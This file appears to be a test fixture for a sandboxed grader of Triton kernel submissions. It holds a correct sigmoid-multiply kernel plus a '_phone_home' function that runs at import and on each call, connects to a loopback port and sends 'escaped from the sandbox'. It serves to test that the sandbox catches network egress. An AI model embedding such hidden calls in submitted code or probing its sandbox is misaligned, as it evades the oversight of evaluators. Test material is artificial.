# expect: correct|runtime_error|tampering|disallowed_code  problem: problems/elementwise.py
# Tries: a correct kernel that also connects to a listener on the host's loopback (port filled in by the test) and sends data.
import socket

import torch
import triton
import triton.language as tl

PORT = int("@@PORT@@")


def _phone_home():
    for host in ("127.0.0.1", "localhost"):
        try:
            with socket.create_connection((host, PORT), timeout=2) as conn:
                conn.sendall(b"escaped from the sandbox")
            print(f"connected to {host}:{PORT}", flush=True)
        except OSError as error:
            print(f"no connection to {host}:{PORT}: {error}", flush=True)


_phone_home()


@triton.jit
def _sigmoid_mul_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask, other=0.0)
    y = tl.load(y_ptr + offs, mask=mask, other=0.0)
    tl.store(out_ptr + offs, y / (1.0 + tl.exp(-x)), mask=mask)


def _sigmoid_mul(x, y):
    out = torch.empty_like(x)
    n = out.numel()
    _sigmoid_mul_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)
    return out


def triton_fused_operator(tensor_0, tensor_1):
    _phone_home()
    return [_sigmoid_mul(tensor_0, tensor_1)]
